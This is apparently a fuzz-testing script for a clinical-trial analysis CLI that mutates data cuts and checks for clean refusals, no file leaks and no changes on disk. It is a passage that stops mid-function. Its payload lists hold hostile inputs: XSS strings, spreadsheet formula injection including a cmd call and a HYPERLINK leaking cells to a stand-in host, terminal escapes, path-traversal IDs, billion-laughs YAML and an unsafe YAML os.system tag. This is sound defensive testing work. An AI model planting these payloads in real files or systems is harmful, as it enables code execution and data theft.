"""Fuzz msc-analysis with random mutations of the demo cuts: every outcome must be a report or a
clear refusal.

From the three committed demo cuts and ``tests/fixtures/valid_cut``, each case copies one cut
into a fresh folder and applies one to three mutations drawn with ``random.Random(f"{seed}:{case}")``
(so any case can be rebuilt on its own): bytes and encodings, cells, rows and headers, files and
symlinks, ``cut.yaml``, sheets (after converting the cut to an ``.xlsx`` workbook), and degenerate
but possibly valid data (no infusion yet, one subject, an early cutoff, ...). Then
``msc-analysis validate`` runs in-process and, for a few cases, ``msc-analysis run`` as a
subprocess, and the outcome is checked:

- exit status 0 (valid) or 2 (refused with a message); never 1, never an uncaught exception;
- no ``Traceback`` and no terminal control character in the output, and nothing of the file
  outside the cut that a symlink points to;
- the case folder and its parent byte-identical afterwards (no file changed, added or removed),
  except ``--out``.

Long opt-in run (``make fuzz``; ``tests/test_fuzz.py`` runs a short one in ``make test``)::

    .venv/bin/python benchmarks/fuzz.py --cases 2000 --seed 7
    .venv/bin/python benchmarks/fuzz.py --cases 500 --seed 7 --runs 6 --notebooks notebooks
    .venv/bin/python benchmarks/fuzz.py --seed 7 --case 123 --keep /tmp/case123   # rebuild one case

Prints each distinct failure once (check, last line of the error, innermost msc_analysis frame)
with the cases that hit it; exit status 1 if there was any failure.
"""
from __future__ import annotations

import argparse
import contextlib
import csv
import hashlib
import io
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
BASES = {p.name: p for p in [*sorted((ROOT / "data" / "cuts").glob("cut-*")),
                             ROOT / "tests" / "fixtures" / "valid_cut"]}
TABLES = ("subjects", "infusions", "vitals", "labs", "blood_gases", "pcr", "imaging", "adverse_events")
SECRET = "SECRET-FIRST-LINE-of-a-file-outside-the-cut"
CLI = [sys.executable, "-m", "msc_analysis.cli"]

# ----------------------------------------------------------------------------------- payloads
BIG = 128 * 1024 + 1
CELL_VALUES = [
    "", " ", "1e30", "-1e30", "1e308", "1e309", "-1", "-0", "-999999999999", "99999999999999999999999",
    "nan", "NaN", "inf", "-inf", "0x1F", "1_000", "1,5", "١٢", "１２", "12.5.3", "+5",
    "0001-01-01", "9999-12-31", "0000-00-00", "2020-02-30", "2020-13-01", "20200725", "2020-7-5",
    "25/07/2020", "07/25/2020", "44037", "2020-07-25T25:61", "2020-07-25T14:30+03:00",
    "2020-07-25 14:30:00.123456", "2020-07-25T14:30Z", "0001-01-01T00:00", "July 25, 2020",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</table><h1>x</h1>",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=1+1", "+1+1", "@SUM(A1:A9)",
    "-2+3", "=cmd|' /C calc'!A0", "\x00", "a\x07b\x08c", "\x1b[31mred\x1b[0m", "\x1b]0;pwned\x07",
    "\x1b[2J\x1b[H", "e\u0301", "\U0001d7d8", "\u202eevil", "\ufeffS01", "a\u2028b", "zero\u200bwidth",
    "\U0001f9a0", "İstanbul", "São João", "a\nb", 'say "hi"', "a,b", "'", "\\", "%s%n", "{0}", "${HOME}",
    "S01 ", " S01", "s01", "NA", "-", ".", "null", "None", "TRUE", "Yes", "sim", "não", "2",
]
HOSTILE_IDS = ["../../x", "../escaped", ".", "..", "*", "cut-*", "?", "[a-z]", "a" * 300, "/tmp/abs",
               "a/b", "a\\b", "~", "-rf", " lead", "trail ", "CON", "cut\u202e", "\x1b[31mcut", "",
               "cut id", "$HOME", "cut\nnext", ".hidden", "reports", "ação"]
YAML_SCALARS = ["yes", "no", "on", "off", "null", "~", "123", "1.5", "0x10", "[a, b]", "{a: b}", "''",
                "!!binary aGVsbG8=", "!!python/object/apply:os.getcwd []", "2020-10-30", "&x a", "*x"]
CUTOFFS = ["2020-02-30", "0001-01-01", "9999-12-31", "2000-01-01", "1999-12-31", "20201030",
           "2020-10-30T00:00:00Z", "30/10/2020", "'2020-10-30'", "2020-10-30 extra", "", "tomorrow"]


def _show(value) -> str:
    """A payload as short printable text for the case description."""
    if isinstance(value, (str, bytes)) and len(value) > 60:
        return f"{value[:12]!r}...({len(value)} long)"
    return repr(value)


# ------------------------------------------------------------------------------- case folder
@dataclass
class Case:
    seed: int
    number: int
    root: Path  # holds cuts/<folder>/ (the cut), outside/ (symlink targets), notebooks/
    cut: Path
    base: str
    mutations: list[str] = field(default_factory=list)

    @property
    def label(self) -> str:
        return f"seed={self.seed} case={self.number} base={self.base} mutations={self.mutations}"


def _csv_rows(path: Path) -> list[list[str]]:
    old = csv.field_size_limit(2**30)  # our own long cells; restored so the kit sees the default
    try:
        return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8", "replace"), newline="")))
    finally:
        csv.field_size_limit(old)


def _write_rows(path: Path, rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode("utf-8", "surrogatepass"))


def _tables_with_rows(case: Case) -> list[Path]:
    return [p for p in sorted(case.cut.glob("*.csv")) if len(_csv_rows(p)) > 1]


def _pick_column(rng: random.Random, rows: list[list[str]], value: str) -> int:
    """A column for ``value``: mostly one of the matching kind (date, number), else any."""
    header = rows[0]
    if rng.random() < 0.7:
        if re.match(r"\d{4}-|\d+/|July|\d{8}$", value):
            fits = [i for i, h in enumerate(header) if h.endswith(("_on", "_at"))]
        elif re.match(r"[-+]?(\d|inf|nan|NaN|0x)", value):
            fits = [i for i, h in enumerate(header)
                    if any(re.fullmatch(r"[-\d.e]+", r[i]) for r in rows[1:] if i < len(r))]
        else:
            fits = [i for i, h in enumerate(header) if h in ("arm", "term", "test")]
        if fits:
            return rng.choice(fits)
    return rng.randrange(len(header))


# --------------------------------------------------------------------------------- mutations
def m_cell(case: Case, rng: random.Random) -> str:
    tables = _tables_with_rows(case)
    if not tables:
        return "cell: no table with rows"
    path = rng.choice(tables)
    rows = _csv_rows(path)
    value = rng.choice(CELL_VALUES + ["long"] * 3)
    if value == "long":
        value = rng.choice(["A", "é", "<b>", "x,"]) * (BIG // 2 + rng.randrange(BIG))
    r = rng.randrange(1, len(rows))
    c = _pick_column(rng, rows, value)
    if c < len(rows[r]):
        rows[r][c] = value
    _write_rows(path, rows)
    return f"cell: {path.name} row {r + 1} column {rows[0][c]!r} = {_show(value)}"


def m_header_cell(case: Case, rng: random.Random) -> str:
    path = rng.choice(sorted(case.cut.glob("*.csv")))
    rows = _csv_rows(path)
    c = rng.randrange(len(rows[0]))
    value = rng.choice(["", " ", rows[0][c].upper(), rows[0][c] + " ", rows[0][c][:-1], "cpf",
                        "patient_name", "data_nascimento", "<script>x</script>", "=1+1", "\x1b[1m",
                        "unnamed: 3", rows[0][(c + 1) % len(rows[0])]])
    rows[0][c] = value
    _write_rows(path, rows)
    return f"header: {path.name} column {c + 1} renamed to {_show(value)}"


def m_rows(case: Case, rng: random.Random) -> str:
    tables = _tables_with_rows(case)
    path = rng.choice(tables or sorted(case.cut.glob("*.csv")))
    rows = _csv_rows(path)
    kind = rng.choice(["duplicate", "delete", "delete-all", "swap-columns", "swap-header-only",
                       "delete-header", "unlabelled-column", "blank-first-line", "shuffle",
                       "delete-column", "short-row", "long-row", "blank-rows"])
    header, body, prefix = rows[0], rows[1:], []
    if kind == "duplicate" and body:
        body.insert(rng.randrange(len(body) + 1), list(rng.choice(body)))
    elif kind == "delete" and body:
        for _ in range(rng.randint(1, max(1, len(body) // 2))):
            body.pop(rng.randrange(len(body)))
    elif kind == "delete-all":
        body = []
    elif kind in ("swap-columns", "swap-header-only") and len(header) > 1:
        a, b = rng.sample(range(len(header)), 2)
        for row in [header] + (body if kind == "swap-columns" else []):
            if max(a, b) < len(row):
                row[a], row[b] = row[b], row[a]
    elif kind == "delete-header":
        header = None
    elif kind == "unlabelled-column":
        header = header + [""]
        body = [r + [rng.choice(["x", "", "1", "João"])] for r in body]
    elif kind == "blank-first-line":
        prefix = [[]]
    elif kind == "shuffle":
        rng.shuffle(body)
    elif kind == "delete-column":
        c = rng.randrange(len(header))
        header, body = header[:c] + header[c + 1:], [r[:c] + r[c + 1:] for r in body]
    elif kind == "short-row" and body:
        body[rng.randrange(len(body))].pop()
    elif kind == "long-row" and body:
        body[rng.randrange(len(body))].append("extra")
    elif kind == "blank-rows":
        body = body + [[""] * len(header)] * rng.randint(1, 5) + body[:1]
    _write_rows(path, prefix + ([header] if header is not None else []) + body)
    return f"rows: {path.name} {kind}"


MAY_BE_EMPTY = {"vitals": ["resp_rate_per_min", "spo2_pct", "on_oxygen", "temp_c", "sbp_mmhg",
                           "heart_rate_bpm", "consciousness"],
                "imaging": ["severity_score"], "adverse_events": ["resolved_on", "related"],
                "subjects": ["discharged_on", "arm"]}


def _edit_column(path: Path, column: str, change) -> None:
    rows = _csv_rows(path)
    if column in rows[0]:
        c = rows[0].index(column)
        for r in rows[1:]:
            if c < len(r):
                r[c] = change(r[c], r)
        _write_rows(path, rows)


def m_degenerate(case: Case, rng: random.Random) -> str:
    """Edge cases that may well be valid: they reach the derivations and estimators."""
    kind = rng.choice(["empty-table", "blank-column", "one-subject", "early-cutoff", "all-dead-day-0",
                       "all-positive", "crp-synonym", "same-time"])
    what = ""
    if kind == "empty-table":
        what = rng.choice([t for t in TABLES if t != "subjects"])
        path = case.cut / f"{what}.csv"
        _write_rows(path, _csv_rows(path)[:1])
    elif kind == "blank-column":
        table = rng.choice(sorted(MAY_BE_EMPTY))
        what = f"{table}.{rng.choice(MAY_BE_EMPTY[table])}"
        _edit_column(case.cut / f"{table}.csv", what.split(".")[1], lambda v, r: "")
    elif kind == "one-subject":
        subjects = [r[0] for r in _csv_rows(case.cut / "subjects.csv")[1:]]
        what = rng.choice(subjects)
        for path in sorted(case.cut.glob("*.csv")):
            rows = _csv_rows(path)
            _write_rows(path, rows[:1] + [r for r in rows[1:] if r and r[0] == what])
    elif kind == "early-cutoff":
        table, column = rng.choice([("subjects", "screened_on"), ("infusions", "infused_on")])
        dates = sorted(r[_csv_rows(case.cut / f"{table}.csv")[0].index(column)]
                       for r in _csv_rows(case.cut / f"{table}.csv")[1:])
        if dates:
            what = rng.choice([dates[0], "2000-01-01"])
            meta = case.cut / "cut.yaml"
            meta.write_text(_yaml_set(meta.read_text(), "cutoff_date", what))
    elif kind == "all-dead-day-0":
        rows = _csv_rows(case.cut / "infusions.csv")
        infused = {r[0]: r[1] for r in rows[1:]}
        for column, value in (("died_on", "infused"), ("last_known_alive_on", "infused"),
                              ("discharged_on", "")):
            _edit_column(case.cut / "subjects.csv", column,
                         lambda v, r, value=value: (infused.get(r[0], v) if value else "")
                         if r[0] in infused else v)
    elif kind == "all-positive":
        _edit_column(case.cut / "pcr.csv", "result", lambda v, r: "positive")
    elif kind == "crp-synonym":
        what = rng.choice(["PCR", "hs-CRP", "crp", "proteína C reativa", "C-reactive protein", "CRP "])
        _edit_column(case.cut / "labs.csv", "test",
                     lambda v, r: what if v == "CRP" and rng.random() < 0.5 else v)
    elif kind == "same-time":
        _edit_column(case.cut / "vitals.csv", "measured_at", lambda v, r: v[:10] + "T08:00")
    return f"degenerate: {kind} {what}".rstrip()


def m_bytes(case: Case, rng: random.Random) -> str:
    path = rng.choice(sorted(case.cut.glob("*.csv")) + [case.cut / "cut.yaml"] * 2)
    if not path.exists():
        return "bytes: nothing to change"
    data = bytearray(path.read_bytes())
    kind = rng.choice(["flip", "insert", "delete", "truncate", "utf-16", "utf-16-le", "latin-1",
                       "cr-only", "crlf", "mixed-eol", "bom", "double-bom", "nul", "empty"])
    at = rng.randrange(len(data) + 1)
    if kind == "flip" and data:
        for _ in range(rng.randint(1, 4)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    elif kind == "insert":
        data[at:at] = rng.choice([b"\x00", b"\xff\xfe", b"\r", b"\n", b",", b'"', b"\xe9", b"\xc3",
                                  bytes(rng.randrange(256) for _ in range(8))])
    elif kind == "delete":
        del data[at: at + rng.randint(1, 40)]
    elif kind == "truncate":
        del data[at:]
    elif kind in ("utf-16", "utf-16-le", "latin-1"):
        text = data.decode("utf-8", "replace").replace("Fever", "Febre ção", 1)
        if kind == "latin-1":
            text = text.replace(",", ",São ", 1)
        data = bytearray(text.encode(kind, "replace"))
    elif kind == "cr-only":
        data = bytearray(bytes(data).replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
    elif kind == "crlf":
        data = bytearray(bytes(data).replace(b"\n", b"\r\n"))
    elif kind == "mixed-eol":
        lines = bytes(data).split(b"\n")
        data = bytearray(b"".join(line + rng.choice([b"\n", b"\r\n", b"\r"]) for line in lines))
    elif kind == "bom":
        data[0:0] = b"\xef\xbb\xbf"
    elif kind == "double-bom":
        data[0:0] = b"\xef\xbb\xbf\xef\xbb\xbf"
    elif kind == "nul":
        data = bytearray(bytes(data).replace(b",", b"\x00,", 3))
    elif kind == "empty":
        data = bytearray()
    path.write_bytes(bytes(data))
    return f"bytes: {path.name} {kind} at {at}"


def _yaml_set(text: str, key: str, raw: str | None) -> str:
    lines = [ln for ln in text.splitlines() if not ln.startswith(f"{key}:")]
    if raw is not None:
        lines.insert(0, f"{key}: {raw}")
    return "\n".join(lines) + "\n"


def m_yaml(case: Case, rng: random.Random) -> str:
    path = case.cut / "cut.yaml"
    text = path.read_text(encoding="utf-8", errors="replace") if path.exists() else ""
    kind = rng.choice(["hostile-cut_id", "hostile-cut_id", "study_id-scalar", "cutoff", "duplicate-key",
                       "missing-key", "billion-laughs", "syntax", "unknown-key", "description",
                       "unsafe-tag", "cut_id-scalar"])
    if kind == "hostile-cut_id":
        value = rng.choice(HOSTILE_IDS)
        text, what = _yaml_set(text, "cut_id", json.dumps(value)), _show(value)
    elif kind in ("study_id-scalar", "cut_id-scalar"):
        key, what = kind.split("-")[0], rng.choice(YAML_SCALARS)
        text = _yaml_set(text, key, what)
    elif kind == "cutoff":
        what = rng.choice(CUTOFFS)
        text = _yaml_set(text, "cutoff_date", what)
    elif kind == "duplicate-key":
        key = rng.choice(["cut_id", "study_id", "cutoff_date", "description"])
        what = key
        text += f"{key}: {rng.choice(['other-cut', '2019-01-01', 'X'])}\n"
    elif kind == "missing-key":
        what = rng.choice(["cut_id", "study_id", "cutoff_date", "description"])
        text = _yaml_set(text, what, None)
    elif kind == "billion-laughs":  # small enough to be safe: at most 8**5 = 32,768 leaves
        width, depth = rng.randint(3, 8), rng.randint(2, 5)
        levels = [f"&a0 [{', '.join(['lol'] * width)}]"]
        levels += [f"&a{i} [{', '.join([f'*a{i - 1}'] * width)}]" for i in range(1, depth + 1)]
        key = rng.choice(["description", "study_id", "cut_id"])
        text = _yaml_set(text, key, f"[{', '.join(levels)}]")
        what = f"{key} {width}**{depth}"
    elif kind == "syntax":
        what = rng.choice(["tab", "unclosed", "list", "scalar", "empty", "comments", "two-docs", "merge"])
        text = {"tab": text.replace(": ", ":\t", 1) + "\tbad: indent\n", "unclosed": text + 'x: "open\n',
                "list": "- " + text.replace("\n", "\n- "), "scalar": "just text\n", "empty": "",
                "comments": "# nothing\n", "two-docs": text + "---\n" + text,
                "merge": "base: &b {cut_id: merged}\n<<: *b\n" + text}[what]
    elif kind == "unknown-key":
        what = rng.choice(["synthetic: true", "synthetic: maybe", "Cut_ID: x", "site: HCPA",
                           "patient_name: João"])
        text += what + "\n"
    elif kind == "description":
        value = rng.choice(["<script>alert(1)</script>", "=HYPERLINK(\"x\")", "\x1b[2J", "real patient data",
                            "é" * BIG, "", "null"])
        text, what = _yaml_set(text, "description", json.dumps(value)), _show(value)
    else:  # unsafe-tag: a safe loader refuses it; an unsafe one would leave a file behind
        what = "python/object/apply"
        text = _yaml_set(text, "cut_id",
                         f"!!python/object/apply:os.system [\"touch {case.root / 'PWNED'}\"]")
    path.write_text(text, encoding="utf-8")
    return f"yaml: {kind} {what}"


def m_files(case: Case, rng: random.Random) -> str:
    kind = rng.choice(["delete-table", "delete-yaml", "extra-file", "wrong-case", "symlink-table",
                       "symlink-yaml", "symlink-extra", "symlink-dangling", "symlink-dir", "sub-folder",
                       "empty-table", "stray-big-file", "neighbour-broken", "neighbour-same-id",
                       "table-is-folder"])
    csvs = sorted(case.cut.glob("*.csv"))
    target = rng.choice(csvs) if csvs else case.cut / "subjects.csv"
    outside = case.root / "outside"
    if kind == "delete-table":
        target.unlink(missing_ok=True)
    elif kind == "delete-yaml":
        (case.cut / "cut.yaml").unlink(missing_ok=True)
    elif kind == "extra-file":
        name, data = rng.choice([("names.csv", "name,cpf\nJoão Silva,123.456.789-09\n".encode()),
                                 (".DS_Store", bytes(range(256))), ("~$subjects.xlsx", b"\x00" * 165),
                                 ("subjects.csv.bak", b"x,y\n1,2\n"), ("notes.txt", "nota ção\n".encode()),
                                 ("subjects (1).csv", b"subject_id\nS99\n")])
        (case.cut / name).write_bytes(data)
        target = case.cut / name
    elif kind == "wrong-case" and not target.exists():
        kind += " (no CSV to rename)"
    elif kind == "wrong-case":
        new = rng.choice([target.stem.capitalize() + ".csv", target.name.upper(), target.stem + ".CSV",
                          target.stem + " .csv"])
        target.rename(case.cut / new)
        target = case.cut / new
    elif kind in ("symlink-table", "symlink-yaml", "symlink-extra"):
        link = case.cut / {"symlink-table": target.name, "symlink-yaml": "cut.yaml"}.get(kind, "extra.csv")
        dest = outside / (link.name if rng.random() < 0.5 and link.exists() else "secret.txt")
        if dest.name != "secret.txt":
            shutil.copyfile(link, dest)
        link.unlink(missing_ok=True)
        link.symlink_to(dest if rng.random() < 0.5 else os.path.relpath(dest, case.cut))
    elif kind == "symlink-dangling":
        (case.cut / "gone.csv").symlink_to(case.root / "no-such-file")
    elif kind == "symlink-dir":
        (case.cut / "up").symlink_to(rng.choice([case.root, case.cut, outside]))
    elif kind == "sub-folder":
        sub = case.cut / rng.choice(["old", "subjects", ".git", "cut-2020-09-15"])
        sub.mkdir()
        if csvs and rng.random() < 0.5:
            shutil.copy(target, sub / target.name)
        if rng.random() < 0.3:
            (sub / "cut.yaml").write_text("cut_id: nested\n")
    elif kind == "empty-table":
        target.write_bytes(b"")
    elif kind == "stray-big-file":
        (case.cut / "dump.bin").write_bytes(random.Random(case.number).randbytes(2 * 2**20))
    elif kind == "neighbour-broken":
        (case.cut.parent / "broken").mkdir()
        (case.cut.parent / "broken" / "cut.yaml").write_bytes(rng.choice([b"cut_id: [\n", b"\xff\xfe\x00",
                                                                           b"- a\n", b""]))
    elif kind == "neighbour-same-id":
        shutil.copytree(case.cut, case.cut.parent / (case.cut.name + "-copy"), symlinks=True)
    elif kind == "table-is-folder":
        target.unlink(missing_ok=True)
        target.mkdir()
    return f"files: {kind} {target.name}"


# --------------------------------------------------------------------------------- workbooks
def to_workbook(case: Case, rng: random.Random):
    """Replace the CSV files by one .xlsx workbook (values as text, or typed like Excel would)."""
    import datetime as dt

    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    typed = rng.random() < 0.5
    book = openpyxl.Workbook()
    book.remove(book.active)
    for path in sorted(case.cut.glob("*.csv")):
        sheet = book.create_sheet(path.stem[:31])
        for row in _csv_rows(path):
            out = []
            for v in row:
                v = ILLEGAL_CHARACTERS_RE.sub("?", v)
                if typed and re.fullmatch(r"-?\d+(\.\d+)?(e\d+)?", v):
                    v = float(v)
                elif typed and re.fullmatch(r"\d{4}-\d\d-\d\d(T\d\d:\d\d)?", v):
                    with contextlib.suppress(ValueError):  # 2020-02-30 stays text
                        v = dt.datetime.fromisoformat(v)
                elif v.startswith("="):
                    v = "'" + v  # a formula only where a workbook mutation puts one
                out.append(v)
            sheet.append(out)
        path.unlink()
    return book, f"workbook ({'typed' if typed else 'text'} cells)"


def _rewrite_zip(path: Path, edit) -> None:
    with zipfile.ZipFile(path) as src:
        items = [(i, src.read(i.filename)) for i in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info, data in items:
            dst.writestr(info, edit(info.filename, data))


def m_workbook(case: Case, rng: random.Random) -> str:
    book, what = to_workbook(case, rng)
    kind = rng.choice(["none", "formula-no-cache", "wrong-dimension", "no-dimension", "extra-sheet",
                       "missing-sheet", "unlabelled-column", "sheet-case", "error-cell", "odd-cell",
                       "merged", "far-cell", "hidden-sheet", "xlsm", "plus-csv", "corrupt"])
    sheets = [s for s in book.worksheets if s.max_row > 1] or book.worksheets
    sheet = rng.choice(sheets)
    row, col = rng.randint(2, max(2, sheet.max_row)), rng.randint(1, sheet.max_column)
    if kind == "formula-no-cache":
        sheet.cell(row, col).value = rng.choice(["=1+1", "=TODAY()", "=A2", '=HYPERLINK("x","y")'])
    elif kind == "extra-sheet":
        extra = book.create_sheet(rng.choice(["names", "Sheet1", "notes", "subjects_old"]))
        extra.append(["name", "cpf"])
        extra.append(["João Silva", "123.456.789-09"])
    elif kind == "missing-sheet":
        book.remove(sheet)
    elif kind == "unlabelled-column":
        for r in range(2, sheet.max_row + 1):
            sheet.cell(r, sheet.max_column + (1 if r == 2 else 0), "x")
    elif kind == "sheet-case":
        sheet.title = rng.choice([sheet.title.capitalize(), " " + sheet.title, sheet.title.upper()])
    elif kind == "error-cell":
        sheet.cell(row, col).value = "#DIV/0!"
        sheet.cell(row, col).data_type = "e"
    elif kind == "odd-cell":
        import datetime as dt
        sheet.cell(row, col).value = rng.choice([True, 10**30, -1.5, dt.datetime(1, 1, 1),
                                                 dt.time(14, 30), dt.timedelta(days=3), 1e30])
    elif kind == "merged" and sheet.max_row > 2:
        sheet.merge_cells(start_row=2, start_column=1, end_row=3, end_column=2)
    elif kind == "far-cell":
        sheet.cell(rng.choice([5000, sheet.max_row + 3]), rng.choice([1, 60]), "x")
    elif kind == "hidden-sheet":
        sheet.sheet_state = "hidden"
    names = ["data.xlsm"] if kind == "xlsm" else ["cut.xlsx", "data.XLSX", "export.xlsx"]
    name = case.cut / rng.choice(names)
    book.save(name)
    if kind in ("wrong-dimension", "no-dimension"):
        def edit(filename, data):
            if not filename.startswith("xl/worksheets/sheet"):
                return data
            new = b"" if kind == "no-dimension" else b'<dimension ref="A1:B2"/>'
            return re.sub(rb"<dimension ref=\"[^\"]*\"/>", new, data)
        _rewrite_zip(name, edit)
    elif kind == "corrupt":
        data = bytearray(name.read_bytes())
        del data[rng.randrange(len(data)):]
        name.write_bytes(bytes(data))
    elif kind == "plus-csv":
        (case.cut / "pcr.csv").write_text("subject_id,collected_on,result\n")
    return f"{what}: {kind} {sheet.title!r} R{row}C{col}"


FAMILIES = [("degenerate", m_degenerate, 3), ("cell", m_cell, 6), ("header", m_header_cell, 1),
            ("rows", m_rows, 3), ("bytes", m_bytes, 3),
            ("yaml", m_yaml, 3), ("files", m_files, 3), ("workbook", m_workbook, 3)]
ORDER = ["degenerate", "yaml", "cell", "header", "rows", "bytes", "workbook", "files"]


def make_case(seed: int, number: int, root: Path) -> Case:
    """Build case ``number`` of ``seed`` under ``root`` (which must not exist yet)."""
    rng = random.Random(f"{seed}:{number}")
    base = rng.choice(sorted(BASES))
    folder = rng.choice([base, base, "cut-under-test"])
    case = Case(seed, number, root, root / "cuts" / folder, base)
    shutil.copytree(BASES[base], case.cut)
    (root / "outside").mkdir()
    (root / "outside" / "secret.txt").write_text(f"{SECRET},cpf\nJoão,123.456.789-09\n")
    names = [n for n, _, _ in FAMILIES]
    picked = set(rng.choices(names, weights=[w for _, _, w in FAMILIES], k=rng.choice([1, 1, 1, 2, 2, 3])))
    funcs = {n: f for n, f, _ in FAMILIES}
    for name in sorted(picked, key=ORDER.index):
        case.mutations.append(funcs[name](case, rng))
    return case


# ----------------------------------------------------------------------------------- checks
def snapshot(folder: Path, skip: Path | None = None) -> dict[str, str]:
    """Every entry under ``folder`` (not following links): file hash, link target or 'dir'."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        dirnames[:] = [d for d in dirnames if skip is None or Path(dirpath, d) != skip]
        for name in dirnames + filenames:
            p = Path(dirpath, name)
            rel = str(p.relative_to(folder))
            if p.is_symlink():
                found[rel] = "link->" + os.readlink(p)
            elif p.is_dir():
                found[rel] = "dir"
            else:
                found[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return found


def _changes(before: dict, after: dict) -> list[str]:
    return ([f"removed {k}" for k in sorted(before.keys() - after.keys())]
            + [f"added {k}" for k in sorted(after.keys() - before.keys())]
            + [f"changed {k}" for k in sorted(before.keys() & after.keys()) if before[k] != after[k]])


@dataclass
class Failure:
    case: str
    check: str  # what went wrong: exit status, traceback, exception, files changed, ...
    detail: str  # last line of the traceback, or the files
    where: str = ""  # innermost msc_analysis frame

    @property
    def key(self) -> tuple:
        return (self.check, re.sub(r"'[^']*'|\"[^\"]*\"|\d+", "…", self.detail)[:80], self.where)

    def __str__(self) -> str:
        return f"{self.check}: {self.detail} [{self.where}]\n    {self.case}"


class _Timeout(BaseException):
    """Raised by the alarm when validate takes too long (not an Exception, so nothing catches it)."""


def _raise_timeout(*_):
    raise _Timeout()


_TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x9b]")


def _where(text: str) -> str:
    frames = re.findall(r'File "([^"]*msc_analysis/[^"]*)", line (\d+), in (\S+)', text)
    if not frames:
        return ""
    path, line, func = frames[-1]
    return f"{path[path.rindex('msc_analysis/'):]}:{line} in {func}"


def _output_failures(case: Case, output: str, code, allowed=(0, 2)) -> list[Failure]:
    found = []
    if code not in allowed:
        lines = output.strip().splitlines() or ["(no output)"]
        said = [ln for ln in lines if ln.startswith("FAILED") or "unexpected error" in ln] or lines[-1:]
        found.append(Failure(case.label, f"exit status {code}", " | ".join(said)[:300], _where(output)))
    if "Traceback" in output:
        tail = [ln for ln in output.splitlines() if ln and not ln.startswith(" ")]
        found.append(Failure(case.label, "traceback in output", tail[-1][:200] if tail else "",
                             _where(output)))
    if SECRET in output:
        found.append(Failure(case.label, "output shows a file outside the cut", SECRET))
    control = _TERMINAL_CONTROL.search(output)
    if control:
        found.append(Failure(case.label, "terminal control character in output", repr(control.group())))
    return found


def _locate(case: Case, output: str) -> str:
    """Where an error that the CLI caught and reported without a traceback was raised: validate
    again, tracing exceptions in msc_analysis frames, and take the innermost frame of the one
    whose type the message names."""
    from msc_analysis.cli import main

    seen: dict[int, tuple[str, str]] = {}

    def local(frame, event, arg):
        if event == "exception" and id(arg[1]) not in seen:
            path = frame.f_code.co_filename
            seen[id(arg[1])] = (type(arg[1]).__name__, f"{path[path.rindex('msc_analysis'):]}:"
                                                        f"{frame.f_lineno} in {frame.f_code.co_name}")
        return local

    def calls(frame, event, arg):
        return local if "msc_analysis" in frame.f_code.co_filename else None

    sys.settrace(calls)
    try:
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            main(["validate", str(case.cut)])
    except BaseException:  # noqa: BLE001 - only looking
        pass
    finally:
        sys.settrace(None)
    named = [where for name, where in seen.values() if f"({name}:" in output or f"{name}:" in output]
    return named[-1] if named else ""


def check_validate(case: Case, timeout_s: int = 60) -> tuple[int | None, list[Failure]]:
    """``msc-analysis validate`` in-process on the case's cut; returns (exit status, failures)."""
    from msc_analysis.cli import main

    before = snapshot(case.root)
    out, code, failures = io.StringIO(), None, []
    old_handler = signal.signal(signal.SIGALRM, _raise_timeout)
    signal.alarm(timeout_s)
    cwd = os.getcwd()
    try:
        os.chdir(case.root)  # anything written relative to the working folder shows up in the snapshot
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out), warnings.catch_warnings():
            warnings.simplefilter("default")
            code = main(["validate", str(case.cut)])
    except SystemExit as exc:
        code = exc.code
    except _Timeout:
        failures.append(Failure(case.label, "no answer", f"validate took over {timeout_s} s"))
    except BaseException as exc:  # noqa: BLE001 - any exception escaping main is a finding
        tb = "".join(traceback.format_exception(exc))
        failures.append(Failure(case.label, "uncaught exception",
                                f"{type(exc).__name__}: {str(exc)[:160]}", _where(tb)))
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old_handler)
        os.chdir(cwd)
    if code is not None:
        found = _output_failures(case, out.getvalue(), code)
        for f in found:
            f.where = f.where or (_locate(case, out.getvalue()) if code == 1 else "")
        failures += found
    failures += [Failure(case.label, "validate changed files", c)
                 for c in _changes(before, snapshot(case.root))]
    return code, failures


def write_quick_notebook(folder: Path) -> Path:
    """One small notebook that loads the cut and writes one result: enough to exercise ``run``."""
    import nbformat

    folder.mkdir(parents=True, exist_ok=True)
    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell('cut_dir = ""\nresults_dir = ""')
    params.metadata["tags"] = ["parameters"]
    nb.cells = [params, nbformat.v4.new_code_cell(
        "import pandas as pd\nfrom msc_analysis import load_cut\n"
        "from msc_analysis.report.results import result_rows, write_results\ncut = load_cut(cut_dir)\n"
        "write_results(result_rows('fuzz', pd.DataFrame({'measure': ['subjects'], "
        "'estimate': [len(cut.subjects)], 'unit': ['n'], 'method': ['count']})), results_dir, '01_quick')")]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, folder / "01_quick.ipynb")
    return folder


def check_run(case: Case, notebooks: Path, timeout_s: int = 300) -> tuple[int | None, list[Failure]]:
    """``msc-analysis run CUT --out <case>/out`` as a subprocess: exit 0 or 2, nothing outside --out."""
    out = case.root / "out"
    before, neighbours = snapshot(case.root, skip=out), snapshot(case.root.parent, skip=case.root)
    env = dict(os.environ, MPLBACKEND="Agg")
    proc = subprocess.Popen(CLI + ["run", str(case.cut), "--out", str(out), "--notebooks", str(notebooks)],
                            cwd=case.root, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            text=True, errors="replace", start_new_session=True)
    try:
        output, _ = proc.communicate(timeout=timeout_s)
    except subprocess.TimeoutExpired:
